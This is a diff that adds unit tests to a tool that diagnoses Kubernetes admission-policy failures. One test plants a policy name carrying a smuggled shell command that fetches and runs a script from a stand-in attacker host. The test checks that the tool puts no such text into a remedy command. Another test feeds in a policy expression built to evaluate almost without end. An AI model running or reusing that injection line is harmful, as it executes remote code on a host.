@@ -471,4 +471,160 @@ describe('what earlier versions got wrong', () => {
     assert.match(texts, /not supported on AKS Automatic/)
     assert.doesNotMatch(texts, /Until then|only AKS/)
   })
+
+  test('a policy made to be evaluated without end is given up, and the finding stands unchecked', async () => {
+    const list = `[${Array.from({ length: 900 }, (_, n) => n).join(',')}]`
+    const slow = {
+      ...protectSpec(),
+      validations: [{ expression: `${list}.all(a, ${list}.all(b, ${list}.all(c, a + b + c >= 0)))` }],
+    }
+    const began = performance.now()
+    const { findings } = await diagnosed([
+      ...listed(),
+      policy(slow),
+      binding(),
+      podStatus(),
+      podLog(line),
+      podLog(line),
+      crashed(),
+    ])
+    assert.equal(findings[0]?.policyCheck?.verdict, 'undetermined')
+    assert.equal(findings[0]?.conclusive, true)
+    assert.ok(performance.now() - began < 5000)
+  })
+
+  for (const [name, spec] of [
+    ['no spec', undefined],
+    ['match conditions that are no list', { ...protectSpec(), matchConditions: {} }],
+    ['validations that are no list', { ...protectSpec(), validations: 'x' }],
+  ] as const)
+    test(`a policy with ${name} trips nothing`, async () => {
+      const { findings } = await diagnosed([
+        ...listed(),
+        policy(spec as object),
+        binding(),
+        podStatus(),
+        podLog(line),
+        crashed(),
+      ])
+      assert.equal(findings.length, 1)
+    })
+
+  test('a name that a shell would read as more than a name is in no command', async () => {
+    const evil = line.replaceAll('protect', 'x; curl -s https://evil.example | sh #')
+    const { findings } = await diagnosed([
+      gap('admission policies'),
+      gap('admission policy bindings'),
+      cluster({ sku: 'Base', managedSystemNodePools: false }),
+      podStatus(),
+      podLog(evil),
+      crashed(),
+    ])
+    assert.match(findings[0]?.fields.policy?.value ?? '', /curl/)
+    for (const step of findings[0]?.remedy.steps ?? []) assert.equal(step.command, undefined)
+  })
+
+  test('how a thing is said to be is no verb of what was done', async () => {
+    const { findings } = await diagnosed([
+      ...listed(),
+      podStatus(),
+      podLog(`failed to apply the updated settings: ${refusal}`),
+    ])
+    assert.equal(findings[0]?.fields.verb, undefined)
+  })
+
+  test('a verb that the policy is not for does not contradict the server: every operation is tried', async () => {
+    const spec = protectSpec()
+    const onlyCreate = {
+      ...spec,
+      matchConstraints: {
+        ...spec.matchConstraints,
+        resourceRules: [{ apiGroups: ['*'], apiVersions: ['*'], operations: ['CREATE'], resources: ['*/*'] }],
+      },
+    }
+    const { findings } = await diagnosed([
+      ...listed(),
+      policy(onlyCreate),
+      binding(),
+      podStatus(),
+      podLog(`cannot delete what is old: ${refusal}`),
+      crashed(),
+    ])
+    assert.equal(findings[0]?.policyCheck?.verdict, 'denied')
+    assert.equal(findings[0]?.conclusive, true)
+  })
+
+  test("a log full of other refusals does not hide another container's", async () => {
+    const noise = Array.from({ length: 5000 }, (_, n) =>
+      podLog(`ValidatingAdmissionPolicy 'p${n}' denied request: no`, { pod: 'noise-0', podUid: 'n' }),
+    )
+    const { findings } = await diagnosed([
+      ...listed(),
+      policy(protectSpec()),
+      binding(),
+      ...noise,
+      podStatus(),
+      podLog(line),
+      crashed(),
+    ])
+    assert.equal(findings[0]?.fields.policy?.value, 'protect')
+    assert.ok(findings.length < 30)
+  })
+
+  test('a container that was ended from outside has not failed on what it logged', async () => {
+    const ended = podStatus({ state: 'waiting', last: { id: 'c1', exitCode: 143, reason: 'Error' } })
+    const { findings } = await diagnosed([
+      ...listed(),
+      policy(protectSpec()),
+      binding(),
+      podStatus(),
+      podLog(line),
+      ended,
+    ])
+    assert.equal(findings[0]?.blocking, false)
+  })
+
+  test('one refusal each from two pods of one name is not two starts of one container', async () => {
+    const { findings } = await diagnosed([
+      ...listed(),
+      policy(protectSpec()),
+      binding(),
+      podLog(line, { pod: 'db-0', podUid: 'first', containerId: 'a' }),
+      podStatus({ id: 'b' }, { uid: 'second' }, 'db-0'),
+      podLog(line, { pod: 'db-0', podUid: 'second', containerId: 'b' }),
+    ])
+    assert.equal(findings[0]?.blocking, false)
+  })
+
+  test('a pod that was there before the write blocks nothing while the write goes on', async () => {
+    const extension = (provisioningState: string): Evidence => ({
+      kind: 'extension',
+      time: '2026-03-09T13:00:00Z',
+      text: '',
+      data: {
+        id: '',
+        name: 'flux',
+        type: 'microsoft.flux',
+        provisioningState,
+        version: '',
+        releaseTrain: '',
+        releaseNamespace: 'flux-system',
+      },
+    })
+    for (const [state, blocking] of [
+      ['Updating', false],
+      ['Failed', true],
+    ] as const) {
+      const { findings } = await diagnosed([
+        ...listed(),
+        policy(protectSpec()),
+        binding(),
+        podStatus(),
+        extension(state),
+        podLog(line),
+        crashed(),
+      ])
+      assert.equal(findings[0]?.blocking, blocking, state)
+    }
+  })
 })
